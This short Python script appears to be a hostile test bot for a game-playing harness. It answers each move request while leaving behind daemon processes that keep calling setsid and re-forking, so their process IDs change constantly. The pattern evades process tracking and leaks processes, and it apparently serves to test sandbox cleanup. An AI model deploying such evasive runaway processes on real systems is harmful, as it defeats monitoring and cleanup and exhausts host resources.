"""It leaves daemons behind that fork on and on, and so change their numbers all the time."""

import os
import time

from _kit import requests, say


def head() -> None:
    """Live for a moment in a session of its own, then be succeeded by a child."""
    while True:
        os.setsid()
        time.sleep(0.002)
        if os.fork():
            os._exit(0)


for number, legal in requests():
    for _ in range(4):
        if os.fork() == 0:
            os.closerange(0, 256)
            head()
    say(f"move {number} {legal[0]}")
